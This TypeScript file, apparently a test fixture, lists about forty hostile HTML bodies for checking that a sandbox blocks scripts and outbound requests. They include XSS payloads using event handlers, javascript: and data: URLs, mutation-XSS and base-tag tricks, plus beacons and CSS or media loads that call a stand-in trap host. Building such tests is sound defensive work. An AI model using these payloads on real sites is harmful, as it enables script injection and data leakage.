/** Each tries to run a script or to reach `trap`. What a script would do is the same everywhere. */
export function hostileBodies(trap: string): readonly (readonly [name: string, html: string])[] {
  const script = `console.log('PWNED');try{parent.pwned=true}catch{};new Image().src='${trap}/script';fetch('${trap}/fetch');top.location='${trap}/top'`
  const attribute = script.replaceAll('"', '&quot;')
  const encoded = encodeURIComponent(`<script>${script}</script>`)
  return [
    ['script', `<script>${script}</script>`],
    ['script from elsewhere', `<script src="${trap}/a.js"></script>`],
    ['module script', `<script type="module">${script}</script>`],
    ['onerror', `<img src="x:" onerror="${attribute}">`],
    ['onload of the body', `<body onload="${attribute}">hello</body>`],
    ['autofocus', `<input autofocus onfocus="${attribute}">`],
    ['toggle', `<details open ontoggle="${attribute}"><summary>x</summary></details>`],
    ['svg onload', `<svg onload="${attribute}"></svg>`],
    ['svg script', `<svg><script>${script}</script></svg>`],
    [
      'svg animation',
      `<svg><animate onbegin="${attribute}" attributeName="x" dur="1s"></animate></svg>`,
    ],
    [
      'svg use',
      `<svg><use href="${trap}/x.svg#y"></use><image href="${trap}/image"></image></svg>`,
    ],
    [
      'mathml',
      `<math><maction actiontype="statusline" xlink:href="javascript:${script}">x</maction></math>`,
    ],
    ['javascript link', `<a class="bait" href="javascript:${attribute}">click</a>`],
    ['link to the top', `<a class="bait" target="_top" href="javascript:${attribute}">click</a>`],
    ['meta refresh', `<meta http-equiv="refresh" content="0;url=${trap}/refresh">`],
    [
      'meta refresh to a script',
      `<meta http-equiv="refresh" content="0;url=javascript:${attribute}">`,
    ],
    [
      'meta policy',
      `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${trap}/meta">`,
    ],
    ['base', `<base href="${trap}/"><img src="based.png"><script src="based.js"></script>`],
    ['form', `<form action="${trap}/form"><button class="bait">Send</button></form>`],
    [
      'form by the button',
      `<form><button class="bait" formaction="${trap}/formaction">Send</button></form>`,
    ],
    [
      'style import',
      `<style>@import url("${trap}/import.css"); @import "${trap}/import2.css";</style>`,
    ],
    [
      'style leak',
      `<style>body{background:url(${trap}/leak)} a[href^="h"]{background:url('${trap}/leak2')}</style><a href="https://x.example">x</a>`,
    ],
    [
      'style attribute',
      `<p style="background-image:url(${trap}/attribute);list-style:url(${trap}/list)">x</p>`,
    ],
    [
      'font',
      `<style>@font-face{font-family:x;src:url(${trap}/font.woff2)} p{font-family:x}</style><p>abc</p>`,
    ],
    [
      'stylesheet',
      `<link rel="stylesheet" href="${trap}/sheet.css"><link rel="preload" as="image" href="${trap}/preload"><link rel="prefetch" href="${trap}/prefetch"><link rel="icon" href="${trap}/icon">`,
    ],
    [
      'preconnect',
      `<link rel="preconnect" href="${trap}"><link rel="dns-prefetch" href="${trap}">`,
    ],
    [
      'images',
      `<img src="${trap}/img"><img srcset="${trap}/srcset 1x"><picture><source srcset="${trap}/source"><img></picture><table background="${trap}/table"><tr><td>x</td></tr></table>`,
    ],
    [
      'media',
      `<video src="${trap}/video" poster="${trap}/poster" autoplay></video><audio src="${trap}/audio" autoplay></audio><track src="${trap}/track">`,
    ],
    ['iframe', `<iframe src="${trap}/frame"></iframe>`],
    ['iframe srcdoc', `<iframe srcdoc="<script>${attribute}</script>"></iframe>`],
    ['iframe javascript', `<iframe src="javascript:${attribute}"></iframe>`],
    ['iframe data', `<iframe src="data:text/html,${encoded}"></iframe>`],
    [
      'object',
      `<object data="${trap}/object"></object><object data="data:text/html,${encoded}"></object>`,
    ],
    ['embed', `<embed src="${trap}/embed"><embed src="data:text/html,${encoded}">`],
    [
      'portal and template',
      `<template shadowrootmode="open"><img src="${trap}/shadow"><script>${script}</script></template>`,
    ],
    ['ping', `<a class="bait" href="#here" ping="${trap}/ping">click</a>`],
    [
      'mutation',
      `<noscript><p title="</noscript><img src=x: onerror=${attribute.replaceAll(' ', '&#32;')}>"></noscript>`,
    ],
    ['unclosed comment', `<!--><img src="x:" onerror="${attribute}">-->`],
    [
      'import map',
      `<script type="importmap">{"imports":{"x":"${trap}/map.js"}}</script><script type="module">import 'x'</script>`,
    ],
    [
      'speculation',
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${trap}/speculate"]}]}</script>`,
    ],
  ]
}
